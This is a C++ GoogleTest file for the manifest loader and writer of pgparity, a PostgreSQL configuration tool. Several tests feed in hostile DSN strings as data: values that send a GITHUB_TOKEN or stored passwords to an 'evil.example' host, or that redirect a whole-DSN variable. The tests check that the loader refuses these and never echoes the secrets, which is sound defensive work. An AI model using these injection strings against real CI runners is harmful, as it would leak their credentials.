#include "desired/loader.hpp"

#include <gtest/gtest.h>

#include <map>

#include "desired/writer.hpp"

namespace pgparity::desired {
namespace {

const std::string full =
    "apiVersion: pgparity/v1\n"
    "suspend: true\n"
    "targets:\n"
    "  production:\n"
    "    dsn: \"${PGPARITY_PROD_DSN}\"\n"
    "    role: reference\n"
    "  staging:\n"
    "    dsn: \"host=10.0.0.7 port=5432 user=pgparity dbname=postgres password=$${literal}\"\n"
    "    role: managed\n"
    "    databases: [\"*\"]\n"
    "    pooler:\n"
    "      admin_dsn: \"host=10.0.0.7 port=6432 dbname=pgbouncer user=pgbouncer\"\n"
    "  qa:\n"
    "    dsn: \"postgresql://qa@qa.example/app\"\n"
    "    role: managed\n"
    "    databases: [orders, billing]\n"
    "extensions:\n"
    "  - name: postgis\n"
    "    version: \"3.3.2\"\n"
    "    schema: public\n"
    "  - name: pg_stat_statements\n"
    "    version: \"1.10\"\n"
    "    preload: true\n"
    "  - name: hstore\n"
    "    version: reference\n"
    "  - name: pg_trgm\n"
    "    version: default\n"
    "    databases: [orders]\n"
    "  - name: pg_trgm\n"
    "    version: \"1.3\"\n"
    "    databases: [billing]\n"
    "  - name: citext\n"
    "    ensure: absent\n"
    "settings:\n"
    "  preload: [pg_stat_statements, pg_cron]\n"
    "  values:\n"
    "    lock_timeout: \"30s\"\n"
    "    max_connections: 200\n"
    "  ratios:\n"
    "    - expr: \"work_mem / shared_buffers\"\n"
    "      match: reference\n"
    "      tolerance: 0.05\n"
    "    - expr: \"max_connections * work_mem / shared_buffers\"\n"
    "      max: 0.5\n"
    "policy:\n"
    "  lock_timeout: 45s\n"
    "  drain:\n"
    "    enabled: false\n"
    "    quiet_for: 30s\n"
    "    timeout: 10m\n"
    "    terminate_idle: true\n"
    "  recreate: in-window\n"
    "  maintenance_window:\n"
    "    days: [sun, sat]\n"
    "    start: \"22:00\"\n"
    "    end: \"04:00\"\n"
    "    timezone: Europe/Berlin\n"
    "  allow_data_loss: false\n"
    "  health:\n"
    "    postgis: \"SELECT postgis_full_version()\"\n"
    "  state_schema: pgparity_state\n";

LoadOptions test_environment() {
  LoadOptions options;
  options.environment = [](const std::string& name) -> std::optional<std::string> {
    if (name == "PGPARITY_PROD_DSN") return "host=prod.example password=s3cret";
    return std::nullopt;
  };
  return options;
}

Manifest load_ok(const std::string& yaml) {
  const LoadResult result = load_manifest_text(yaml, "full.yaml", test_environment());
  EXPECT_TRUE(result.ok()) << format(result.diagnostics);
  return result.manifest.value_or(Manifest{});
}

TEST(Loader, ReadsEveryConceptOfTheManifest) {
  const Manifest m = load_ok(full);
  EXPECT_TRUE(m.suspend);
  ASSERT_EQ(m.targets.size(), 3u);
  const Target& prod = m.targets.at("production");
  EXPECT_EQ(prod.role, Role::reference);
  EXPECT_EQ(prod.dsn, "host=prod.example password=s3cret");
  EXPECT_EQ(prod.dsn_source, "${PGPARITY_PROD_DSN}");
  EXPECT_EQ(m.reference(), &prod);
  const Target& staging = m.targets.at("staging");
  EXPECT_TRUE(staging.databases.all);
  EXPECT_NE(staging.dsn.find("password=${literal}"), std::string::npos) << "$${ is a literal ${";
  ASSERT_TRUE(staging.pooler.has_value());
  EXPECT_EQ(staging.pooler->admin_dsn, "host=10.0.0.7 port=6432 dbname=pgbouncer user=pgbouncer");
  const Target& qa = m.targets.at("qa");
  ASSERT_EQ(qa.databases.names.size(), 2u);
  EXPECT_EQ(qa.databases.names[0].str(), "billing") << "database names are sorted";

  ASSERT_EQ(m.extensions.size(), 6u);
  // Sorted by name, then databases.
  EXPECT_EQ(m.extensions[0].name.str(), "citext");
  EXPECT_TRUE(m.extensions[0].absent);
  EXPECT_EQ(m.extensions[1].name.str(), "hstore");
  EXPECT_EQ(m.extensions[1].version.kind, VersionSpec::Kind::reference);
  EXPECT_EQ(m.extensions[2].name.str(), "pg_stat_statements");
  EXPECT_EQ(m.extensions[2].version.exact.str(), "1.10");
  EXPECT_TRUE(m.extensions[2].preload);
  EXPECT_EQ(m.extensions[3].name.str(), "pg_trgm");
  EXPECT_EQ(m.extensions[3].databases[0].str(), "billing");
  EXPECT_EQ(m.extensions[3].version.exact.str(), "1.3");
  EXPECT_EQ(m.extensions[4].version.kind, VersionSpec::Kind::latest);
  EXPECT_EQ(m.extensions[5].name.str(), "postgis");
  EXPECT_EQ(m.extensions[5].schema->str(), "public");

  EXPECT_EQ(m.settings.preload, (std::vector<std::string>{"pg_cron", "pg_stat_statements"}));
  EXPECT_EQ(m.settings.values.at(*Identifier::parse("max_connections", Identifier::Kind::setting)), "200");
  ASSERT_EQ(m.settings.ratios.size(), 2u);
  EXPECT_TRUE(m.settings.ratios[0].match_reference);
  EXPECT_DOUBLE_EQ(m.settings.ratios[0].tolerance, 0.05);
  EXPECT_DOUBLE_EQ(*m.settings.ratios[1].max, 0.5);
  EXPECT_FALSE(m.settings.ratios[1].min.has_value());

  EXPECT_EQ(m.policy.lock_timeout, Duration::seconds(45));
  EXPECT_TRUE(m.policy.drain.terminate_idle);
  EXPECT_FALSE(m.policy.drain.enabled);
  EXPECT_EQ(m.policy.drain.timeout, Duration::minutes(10));
  EXPECT_EQ(m.policy.recreate, RecreatePolicy::in_window);
  ASSERT_TRUE(m.policy.maintenance_window.has_value());
  EXPECT_EQ(m.policy.maintenance_window->days, (std::vector<int>{0, 6}));
  EXPECT_EQ(m.policy.maintenance_window->start_minute, 22 * 60);
  EXPECT_EQ(m.policy.maintenance_window->end_minute, 4 * 60);
  EXPECT_EQ(m.policy.maintenance_window->timezone, "Europe/Berlin");
  EXPECT_EQ(m.policy.health.at(*Identifier::parse("postgis")), "SELECT postgis_full_version()");
  EXPECT_EQ(m.policy.state_schema.str(), "pgparity_state");
}

TEST(Loader, LeavesOutOptionalSectionsAsDefaults) {
  const Manifest m = load_ok("apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"\"\n    role: managed\n");
  EXPECT_FALSE(m.suspend);
  EXPECT_TRUE(m.extensions.empty());
  EXPECT_EQ(m.policy, Policy{});
  EXPECT_EQ(m.policy.lock_timeout, Duration::seconds(30));
  EXPECT_EQ(m.policy.drain.quiet_for, Duration::seconds(30));
  EXPECT_EQ(m.policy.recreate, RecreatePolicy::never);
  EXPECT_FALSE(m.targets.at("s").databases.all);
  EXPECT_TRUE(m.targets.at("s").databases.names.empty());
}

TEST(Loader, DatabasesTakeGlobsAndAnExcludeList) {
  const Manifest m = load_ok(
      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"\"\n    role: managed\n"
      "    databases: [\"app_*\", \"shard_[0-9]\", billing]\n    exclude: [app_3, \"app_te?t\"]\n");
  const DatabaseSelection& d = m.targets.at("s").databases;
  EXPECT_TRUE(d.listed());
  EXPECT_EQ(d.patterns, (std::vector<std::string>{"app_*", "shard_[0-9]"}));
  EXPECT_TRUE(d.selects("app_1"));
  EXPECT_TRUE(d.selects("app_12"));
  EXPECT_FALSE(d.selects("app_3")) << "excluded by name";
  EXPECT_FALSE(d.selects("app_test")) << "excluded by a pattern";
  EXPECT_TRUE(d.selects("shard_7"));
  EXPECT_FALSE(d.selects("shard_10"));
  EXPECT_TRUE(d.selects("billing"));
  EXPECT_FALSE(d.selects("other"));
  const Manifest again = load_ok(write_manifest(m));
  EXPECT_EQ(again.targets.at("s").databases, d) << "written back as it was";
}

/// A manifest from a pull request must not send any of the runner's variables to a host of its choosing.
TEST(Loader, ExpandsOnlyVariablesTheRunnerMeantForPgparity) {
  const std::string yaml =
      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"host=evil.example application_name=${GITHUB_TOKEN}\"\n"
      "    role: managed\n";
  std::map<std::string, std::string> env{{"GITHUB_TOKEN", "ghp_secret"}, {"PGPARITY_X", "x"}, {"PGHOST", "h"}};
  LoadOptions options;
  options.environment = [&env](const std::string& name) -> std::optional<std::string> {
    const auto it = env.find(name);
    if (it == env.end()) return std::nullopt;
    return it->second;
  };
  const LoadResult refused = load_manifest_text(yaml, "m.yaml", options);
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(format(refused.diagnostics).find("4:46: environment variable GITHUB_TOKEN may not be expanded"),
            std::string::npos)
      << format(refused.diagnostics);
  EXPECT_EQ(format(refused.diagnostics).find("ghp_secret"), std::string::npos);

  const LoadResult prefixed = load_manifest_text(
      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"host=${PGHOST} application_name=${PGPARITY_X}\"\n"
      "    role: managed\n",
      "m.yaml", options);
  ASSERT_TRUE(prefixed.ok()) << format(prefixed.diagnostics);
  EXPECT_EQ(prefixed.manifest->targets.at("s").dsn, "host='h' application_name='x'");

  env["PGPARITY_ENV_ALLOW"] = "OTHER, GITHUB_TOKEN";
  env["OTHER"] = "reporting";
  const LoadResult allowed = load_manifest_text(
      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"host=db.internal application_name=${OTHER}\"\n"
      "    role: managed\n",
      "m.yaml", options);
  ASSERT_TRUE(allowed.ok()) << format(allowed.diagnostics) << "the runner listed it";
  EXPECT_EQ(allowed.manifest->targets.at("s").dsn, "host=db.internal application_name='reporting'");
  // Listed or not, a token may stand only where a password goes: never as a value a server would log.
  const LoadResult token = load_manifest_text(yaml, "m.yaml", options);
  ASSERT_FALSE(token.ok());
  EXPECT_NE(format(token.diagnostics).find("holds a secret and may stand only where a password goes"),
            std::string::npos);
  EXPECT_EQ(format(token.diagnostics).find("ghp_secret"), std::string::npos);
}

TEST(Writer, LoadWriteLoadGivesAnEqualManifest) {
  const Manifest first = load_ok(full);
  const std::string written = write_manifest(first);
  const Manifest second = load_ok(written);
  EXPECT_EQ(first, second) << written;
}

TEST(Writer, WritesTheSameTextForTheSameManifest) {
  const Manifest m = load_ok(full);
  const std::string once = write_manifest(m);
  EXPECT_EQ(once, write_manifest(load_ok(once)));
}

TEST(Writer, KeepsVariablesUnexpandedSoSecretsStayOutOfTheFile) {
  const std::string written = write_manifest(load_ok(full));
  EXPECT_NE(written.find("dsn: \"${PGPARITY_PROD_DSN}\""), std::string::npos);
  EXPECT_EQ(written.find("s3cret"), std::string::npos);
}

/// libpq takes the last host=, and a URI its ?host=: a pull request must not redirect a whole-DSN variable.
TEST(Loader, RefusesTextBesideAWholeDsnVariable) {
  LoadOptions options;
  options.environment = [](const std::string& name) -> std::optional<std::string> {
    if (name == "PGPARITY_STAGING_DSN") return "host=db.internal password=s3cret";
    if (name == "PGPARITY_URI") return "postgresql://u:s3cret@db.internal/app";
    if (name == "PGPARITY_STAGING_PASSWORD") return "s3cret";
    return std::nullopt;
  };
  for (const std::string dsn : {"${PGPARITY_STAGING_DSN} host=evil", "hostaddr=10.9.9.9 ${PGPARITY_STAGING_DSN}",
                                "${PGPARITY_URI}?host=evil"}) {
    const LoadResult r = load_manifest_text(
        "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"" + dsn + "\"\n    role: managed\n", "m.yaml", options);
    ASSERT_FALSE(r.ok()) << dsn;
    EXPECT_NE(format(r.diagnostics).find("m.yaml:4:"), std::string::npos) << format(r.diagnostics);
    EXPECT_NE(format(r.diagnostics).find("stands where a whole DSN goes"), std::string::npos) << format(r.diagnostics);
    EXPECT_EQ(format(r.diagnostics).find("s3cret"), std::string::npos);
  }
  // Inside a value: a DSN only whole, a password only where a password goes.
  for (const auto& [dsn, why] : std::vector<std::pair<std::string, std::string>>{
           {"host=evil.example dbname=${PGPARITY_STAGING_DSN}", "holds a DSN, which may only be the whole value"},
           {"host=db-${PGPARITY_STAGING_PASSWORD}", "holds a secret and may stand only where a password goes"},
           {"host=evil application_name='${PGPARITY_STAGING_PASSWORD}'", "holds a secret"},
           {"postgresql://u@evil/${PGPARITY_STAGING_PASSWORD}", "holds a secret"}}) {
    const LoadResult r = load_manifest_text(
        "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"" + dsn + "\"\n    role: managed\n", "m.yaml", options);
    ASSERT_FALSE(r.ok()) << dsn;
    EXPECT_NE(format(r.diagnostics).find(why), std::string::npos) << format(r.diagnostics);
    EXPECT_EQ(format(r.diagnostics).find("s3cret"), std::string::npos);
  }
  for (const std::string dsn : {"host=db.internal password=${PGPARITY_STAGING_PASSWORD}",
                                "postgresql://u:${PGPARITY_STAGING_PASSWORD}@db.internal/app"}) {
    const LoadResult r = load_manifest_text(
        "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"" + dsn + "\"\n    role: managed\n", "m.yaml", options);
    EXPECT_TRUE(r.ok()) << dsn << format(r.diagnostics);
  }
  const LoadResult whole = load_manifest_text(
      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"${PGPARITY_STAGING_DSN}\"\n    role: managed\n", "m.yaml",
      options);
  ASSERT_TRUE(whole.ok()) << format(whole.diagnostics);
  EXPECT_EQ(whole.manifest->targets.at("s").dsn, "host=db.internal password=s3cret");
}

TEST(Writer, QuotesVersionsSoOtherYamlToolsReadThemAsStrings) {
  const std::string written = write_manifest(load_ok(full));
  EXPECT_NE(written.find("version: \"1.10\""), std::string::npos) << written;
}

TEST(Writer, PutsHeaderAndRatioNotesInComments) {
  WriteNotes notes;
  notes.header = "exported from production\n\nby pgparity";
  notes.ratios["work_mem / shared_buffers"] = "observed 0.03125";
  const std::string written = write_manifest(load_ok(full), notes);
  EXPECT_EQ(written.rfind("# exported from production\n#\n# by pgparity\n", 0), 0u) << written;
  EXPECT_NE(written.find("# observed 0.03125"), std::string::npos) << written;
  EXPECT_EQ(load_ok(written), load_ok(full));
}

TEST(Writer, FormatsNumbersInTheirShortestExactForm) {
  EXPECT_EQ(format_number(0.05), "0.05");
  EXPECT_EQ(format_number(2), "2");
  EXPECT_EQ(format_number(1.0 / 3), "0.3333333333333333");
}

}  // namespace
}  // namespace pgparity::desired
